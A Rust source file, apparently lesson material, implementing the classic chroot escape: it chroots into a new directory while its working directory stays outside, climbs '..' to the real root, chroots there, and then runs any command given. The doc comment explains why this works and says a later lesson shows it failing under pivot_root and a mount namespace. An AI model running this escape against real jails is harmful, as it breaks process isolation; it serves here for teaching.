//! `chroot-escape`: the classic way out of a chroot, for lesson 1.
//!
//! chroot(2) changes only where "/" resolves for one process; it does not
//! move the process's current directory, and the kernel stops ".." at the
//! root only when the walk passes *through* that root. A process with
//! CAP_SYS_CHROOT therefore can: make a directory, chroot into it while its
//! current directory stays outside the new root, walk ".." up to the real
//! root (nothing stops it now), and chroot(".") there. Lesson 2 shows the
//! same program failing once pivot_root(2) and a mount namespace are used.
//!
//! Usage: chroot-escape [COMMAND ARGS...]  (the command runs after the attempt)

use std::ffi::CString;
use std::os::unix::fs::MetadataExt;

fn root_id() -> (u64, u64) {
    let m = std::fs::metadata("/").expect("stat /");
    (m.dev(), m.ino())
}

fn main() {
    let before = root_id();
    let dir = "/.chroot-escape";
    if let Err(e) = std::fs::create_dir(dir)
        && e.kind() != std::io::ErrorKind::AlreadyExists
    {
        eprintln!("chroot-escape: mkdir {dir}: {e}");
        std::process::exit(1);
    }
    let cdir = CString::new(dir).unwrap();
    // SAFETY: cdir is a valid C string; chroot has no other preconditions.
    if unsafe { libc::chroot(cdir.as_ptr()) } != 0 {
        eprintln!(
            "chroot-escape: chroot {dir}: {}",
            std::io::Error::last_os_error()
        );
        std::process::exit(1);
    }
    // Tidy up: the directory is reachable relative to our current
    // directory, which the chroot did not move.
    let _ = std::fs::remove_dir(".chroot-escape");
    // Our current directory is still the old root, which is now *outside*
    // our root directory: ".." is no longer stopped.
    for _ in 0..256 {
        let _ = std::env::set_current_dir("..");
    }
    let dot = CString::new(".").unwrap();
    // SAFETY: as above.
    if unsafe { libc::chroot(dot.as_ptr()) } != 0 {
        eprintln!(
            "chroot-escape: chroot .: {}",
            std::io::Error::last_os_error()
        );
        std::process::exit(1);
    }
    let _ = std::env::set_current_dir("/");
    if root_id() == before {
        println!("chroot-escape: still inside: \"..\" stopped at the container's root");
    } else {
        println!("chroot-escape: escaped: \"/\" is now a directory outside the rootfs");
    }
    let args: Vec<CString> = std::env::args()
        .skip(1)
        .map(|a| CString::new(a).unwrap())
        .collect();
    if let Some(cmd) = args.first() {
        let mut argv: Vec<*const libc::c_char> = args.iter().map(|a| a.as_ptr()).collect();
        argv.push(std::ptr::null());
        // SAFETY: argv is a NULL-terminated array of valid C strings.
        unsafe { libc::execvp(cmd.as_ptr(), argv.as_ptr()) };
        eprintln!(
            "chroot-escape: {}: {}",
            cmd.to_string_lossy(),
            std::io::Error::last_os_error()
        );
        std::process::exit(127);
    }
}
